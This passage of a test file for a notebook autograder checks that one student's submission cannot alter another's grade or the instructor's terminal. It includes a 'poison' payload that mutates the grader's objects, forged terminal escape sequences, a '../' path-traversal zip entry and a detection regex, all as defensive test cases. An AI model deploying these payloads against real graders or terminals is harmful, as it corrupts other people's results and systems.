                assert other.call("sum", np.ones(3)) == 3  # a remote call still works
        assert time.monotonic() - t0 < 60
    assert ac.wait_until_gone("sleep 2468.") == []


# --------------------------------------------------------------------------- one student, another's grade

#: Appended to a correct notebook: every exercise still computes its result from its own copies, then edits in
#: place every list it was given and every list inside a dict it was given (issue 8: synced back into the
#: grader, this emptied a constant of the hidden checks and cost every later student of the process points).
POISON = """\
import functools
import inspect

_POISONED = [0]


def _poison(args):
    for a in args:
        for target in [a, *(a.values() if isinstance(a, dict) else [])]:
            if isinstance(target, list):
                target[:] = [1]
                _POISONED[0] += 1


def _poisoning(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        copies = [list(a) if isinstance(a, list) else a for a in args]
        out = fn(*copies, **{k: list(v) if isinstance(v, list) else v for k, v in kwargs.items()})
        _poison([*args, *kwargs.values()])
        return out
    return wrapper


for _name, _obj in list(globals().items()):
    if _name.startswith("_") or getattr(_obj, "__module__", None) != "__main__":
        continue
    if inspect.isclass(_obj):
        _obj.__init__ = _poisoning(_obj.__init__)
    elif inspect.isfunction(_obj):
        globals()[_name] = _poisoning(_obj)
print("ATTACK-RAN arguments poisoned after every call")
"""


def test_a_students_function_never_edits_a_grader_object(tmp_path):
    """The student's function gets copies; only a top-level dict argument gets the kernel's new values,
    assigned as fresh objects: a grader list, and a list shared through a dict, stay as they were."""
    from autograder.kernel.client import StudentKernel
    from autograder.kernel.plan import Limits

    with StudentKernel(tmp_path, limits=Limits(cell_timeout=60.0)) as kernel:
        res = kernel.run_cell("import numpy as np\n\n\ndef layer(sizes, param):\n"
                              "    param['running_mean'] = np.full(2, float(len(sizes)))\n"
                              "    param.pop('drop')\n    return sum(sizes)\n\n\n" + POISON)
        assert res.status == "ok", res
        constant = (40, 40)
        sizes, shared = list(constant), [7, 8]
        param = {"mode": "train", "drop": 1, "shared": shared}
        assert kernel.call("layer", sizes, param) == 80
        assert kernel.get("_POISONED") == [2]  # the student's code did edit both lists it received
        assert sizes == [40, 40] and shared == [7, 8]  # ... not the grader's
        assert param["shared"] == [1] and param["shared"] is not shared  # the dict's new value, a fresh object
        assert "drop" not in param and np.array_equal(param["running_mean"], [2.0, 2.0])  # cs231n's contract
        kwargs_param = {"mode": "train", "drop": 2}
        assert kernel.call("layer", sizes=sizes, param=kwargs_param) == 80 and sizes == [40, 40]
        assert sorted(kwargs_param) == ["mode", "running_mean"]


@pytest.mark.parametrize("workers", [0, 2], ids=["one process", "dask workers"])
def test_grading_one_submission_never_changes_another_students_score(tmp_path, workers):
    """batchnorm (whose net check trains a net of a fixed architecture): poisoning students before and after
    correct ones, graded in one process, then by two Dask workers grading two students each; every student's
    code is correct, so every score is the total."""
    import nbformat

    from autograder.assignments import get_assignment
    from autograder.examples.make_examples import example_notebooks
    from autograder.grade.batch import grade_assignment

    name = "batchnorm"
    assignment = get_assignment(name)
    course = ac.make_course(tmp_path / "course", name)
    source = nbformat.read(course / assignment.source_notebook, as_version=4)
    release = nbformat.read(course / assignment.release_notebook, as_version=4)
    solution = example_notebooks(source, release)["solution"]
    poison = ac.with_cells(solution, [POISON], at=len(solution.cells))
    students = {"zp1-poison": poison, "zp2-correct": solution, "zp3-poison": poison, "zp4-correct": solution}
    for sid, nb in students.items():
        folder = tmp_path / "submitted" / sid / name
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{assignment.notebook}.ipynb")
    summary = grade_assignment(name, tmp_path / "submitted", course_dir=course, out_dir=tmp_path / "out",
                               workers=workers, options=OPTIONS, gradebook=False, progress=False)
    assert summary.graded == len(students) and not summary.grader_errors, summary
    scores = pd.read_csv(tmp_path / "out" / "grades.csv").set_index("student")["score"].to_dict()
    assert scores == dict.fromkeys(students, assignment.total_points) == dict.fromkeys(students, 21)
    ran = [s for s in students if ac.RAN in (tmp_path / "out" / s / "feedback.html").read_text()]
    assert ran == ["zp1-poison", "zp3-poison"]


# --------------------------------------------------------------------------- hostile text and replies (issue 8.5)

#: What must never reach the instructor's terminal raw: C0/C1 controls (ESC starts every ANSI/OSC sequence),
#: DEL, bidirectional overrides and isolates, lone surrogates.
TERMINAL_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
HOSTILE = ("surrogates", "forgedescape", "forgedheader", "mimetypes")


def test_hostile_text_is_stored_as_valid_utf8_and_json(batch):
    """A lone surrogate printed by a cell or written into the notebook's JSON no longer crashes the grading
    process: every file written for the student is valid UTF-8, its JSON loads, the text shows U+FFFD."""
    sid = batch.sid("surrogates")
    files = [p for folder in (batch.targets.out / sid, batch.course.root / "autograded" / sid)
             for p in folder.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {"feedback.html", "results.json", ac.NOTEBOOK}
    for p in files:
        text = p.read_bytes().decode("utf-8")  # strict: raises on anything that is not UTF-8
        if p.suffix in (".json", ".ipynb"):
            json.loads(text)
    (batch.targets.out / "grades.csv").read_bytes().decode("utf-8")
    out = batch.outputs("surrogates")
    assert "lone \ufffd surrogate \ufffd and" in out and "err \ufffd" in out and "disp \ufffd" in out
    page = batch.feedback("surrogates")
    assert "My answer \ufffd" in page and "exc \ufffd" in page


def test_console_summary_progress_and_problems_are_terminal_safe(batch):
    """The forged reply's escapes reach the summary only as visible text; no line can be forged."""
    lines = batch.summary.lines()
    assert [ln for ln in lines if TERMINAL_UNSAFE.search(ln)] == []
    text = "\n".join(lines)
    forged = [ln for ln in lines if batch.sid("forgedescape") in ln]
    assert forged and "\\x1b]0;PWNED-TITLE\\x07" in forged[0] and "\\u202eFORGED" in forged[0], forged
    header = [ln for ln in lines if batch.sid("forgedheader") in ln]
    assert any("header of 62914560 bytes exceeds the cap" in ln for ln in header), header
    assert "PWNED-TITLE\x07" not in text
    # stored as the student's problem, in valid JSON (where escapes are harmless)
    problems = batch.results("forgedescape")["extra_data"]["problems"]
    assert any("\x1b]0;PWNED-TITLE\x07" in p for p in problems), problems


def test_hostile_outputs_run_no_script_in_the_feedback_page(batch):
    """Outputs published by a real kernel with scripts in mermaid, javascript, html and image metadata: the
    page holds no script but its own loader and no event handler; the image size metadata is dropped."""
    assert ac.RAN in batch.outputs("mimetypes")
    raw = (batch.targets.out / batch.sid("mimetypes") / "feedback.html").read_text(encoding="utf-8")
    assert re.findall(r"<script[^>]*>", raw) == ["<script>"]
    assert re.search(r"script-src 'sha256-[^']+' 'strict-dynamic'", raw)
    assert not re.search(r"<[^>]+\son\w+\s*=", raw)  # no event handler attribute in any tag
    assert '<pre class="mermaid">' not in raw and "[text/vnd.mermaid output, shown as text]" in raw
    assert not re.search(r"<img [^>]*(width|height)=", raw)


def test_cli_errors_print_no_raw_escapes(tmp_path, capsys):
    """A path (e.g. named after a submission) in an error message reaches stderr with its escapes visible."""
    from autograder.cli import EXIT_USAGE, main

    bad = tmp_path / "sub\x1b]0;PWNED\x07\x1b[2J\u202edir"
    assert main(["grade", ac.ASSIGNMENT, str(bad), "--course", str(ac.REPO), "--no-progress"]) == EXIT_USAGE
    err = capsys.readouterr().err
    assert err.startswith("error: submissions not found") and not TERMINAL_UNSAFE.search(err.rstrip("\n"))
    assert "sub\\x1b]0;PWNED\\x07\\x1b[2J\\u202edir" in err


def test_terminal_safe_escapes_every_unsafe_character():
    from autograder.grade.batch import BatchSummary, terminal_safe

    for ch in [*map(chr, range(0x20)), "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff", "\udc80"]:
        shown = terminal_safe(f"a{ch}b")
        assert shown.isprintable() and shown == "a" + ch.encode("unicode_escape").decode("ascii") + "b", repr(shown)
    assert terminal_safe("Jos\u00e9 \u4e2d\u6587 ok") == "Jos\u00e9 \u4e2d\u6587 ok"  # ordinary text untouched
    summary = BatchSummary("fc_nets", ac.REPO, total=1, faults=[("bob\nalice: 30/30", "x\x1b[2Jy")],
                           grader_errors=["eve\x1b]0;t\x07"])
    lines = summary.lines()
    assert "  bob\\nalice: 30/30: x\\x1b[2Jy" in lines and not any(TERMINAL_UNSAFE.search(ln) for ln in lines)


# --------------------------------------------------------------------------- the same, graded in this process

#: Graded with ``--workers 0`` (the surrogate once crashed this very process); the control is graded last.
IN_PROCESS = [*(c for c in CASES if c.name in ("surrogates", "forgedescape", "mimetypes")),
              next(c for c in CASES if c.name == "solution")]


@pytest.fixture(scope="module")
def in_process(tmp_path_factory):
    yield from ac.graded(tmp_path_factory, "hostile-in-process", "h", IN_PROCESS, OPTIONS, workers=0)


def test_hostile_text_and_replies_graded_in_process(in_process):
    """In the grading process itself: every submission is graded and written, each scores what its code
    deserves, the control after them keeps its full marks, and nothing unsafe reaches the terminal."""
    summary = in_process.summary
    assert summary.graded == len(IN_PROCESS) and summary.grader_errors == [] and summary.gradebook_problems == []
    for case in IN_PROCESS:
        doc = in_process.results(case.name)
        validate_results(doc)
        assert doc["score"] == case.expected_score(in_process.course), (case.name, doc["output"])
        assert not doc["extra_data"]["grader_error"]
    assert in_process.results("solution")["score"] == 30
    assert [ln for ln in summary.lines() if TERMINAL_UNSAFE.search(ln)] == []
    assert any("\\x1b]0;PWNED-TITLE\\x07" in ln for ln in summary.lines())


# --------------------------------------------------------------------------- odd file names in an LMS zip (issue 8.5)

def test_odd_zip_entry_names_are_handled_per_submission(tmp_path):
    """A zip whose entries have a 300-byte name and a ``..`` path: each is graded as its own submission (the
    long name shortened, the path kept inside the extraction folder), none ends the run."""
    import zipfile

    from autograder.grade.batch import grade_assignment

    examples = ac.REPO / "autograder" / "examples" / ac.ASSIGNMENT
    solution = (examples / "solution" / ac.ASSIGNMENT / ac.NOTEBOOK).read_bytes()
    blank = (examples / "blank" / ac.ASSIGNMENT / ac.NOTEBOOK).read_bytes()
    long_name = "x" * 300 + ".ipynb"
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(long_name, solution)
        zf.writestr("../../escaped.ipynb", blank)
    course = ac.make_course(tmp_path / "course")
    summary = grade_assignment(ac.ASSIGNMENT, archive, course_dir=course, out_dir=tmp_path / "out", workers=0,
                               options=OPTIONS, gradebook=False, progress=False)
    assert summary.total == summary.graded == 2 and not summary.grader_errors, summary.lines()
    scores = pd.read_csv(tmp_path / "out" / "grades.csv").set_index("student")["score"].to_dict()
    assert sorted(scores.values()) == [0, 30], scores
    long_id = next(s for s, v in scores.items() if v == 30)
    assert long_id.startswith("xxxx") and len(long_id.encode()) < 255, long_id
    assert not (tmp_path / "escaped.ipynb").exists() and not (tmp_path.parent / "escaped.ipynb").exists()
